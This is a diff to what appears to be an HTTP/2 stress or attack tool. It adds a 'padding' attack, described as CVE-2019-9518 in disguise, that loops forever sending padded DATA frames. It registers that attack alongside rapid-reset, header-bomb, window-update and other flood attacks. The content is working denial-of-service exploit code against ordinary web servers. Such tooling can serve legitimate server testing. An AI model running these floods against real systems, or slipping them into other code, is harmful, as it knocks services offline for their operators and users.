@@ -162,6 +162,14 @@ def empty_data(connection):
         yield DataFrame(stream).serialize()
 
 
+def padding(connection):
+    """CVE-2019-9518 in disguise: DATA that is long enough, and nothing but padding."""
+    stream = connection.new_stream()
+    yield connection.headers(stream, UPLOAD, ("END_HEADERS",))
+    while True:
+        yield DataFrame(stream, pad_length=100, flags=("PADDED",)).serialize()
+
+
 def window_update(_):
     while True:
         yield WindowUpdateFrame(0, 1).serialize()
@@ -248,7 +256,7 @@ def too_many_streams(connection):
 
 ATTACKS = {attack.__name__.replace("_", "-"): attack for attack in (
     rapid_reset, made_you_reset_by_window, made_you_reset_by_length, made_you_reset_by_field, settings, ping,
-    empty_data, window_update, priority, priority_update, unknown_frames, late_data, tiny_window,
+    empty_data, padding, window_update, priority, priority_update, unknown_frames, late_data, tiny_window,
     continuation, empty_continuation, header_bomb, cookie_crumbs,
     too_many_streams)}
 
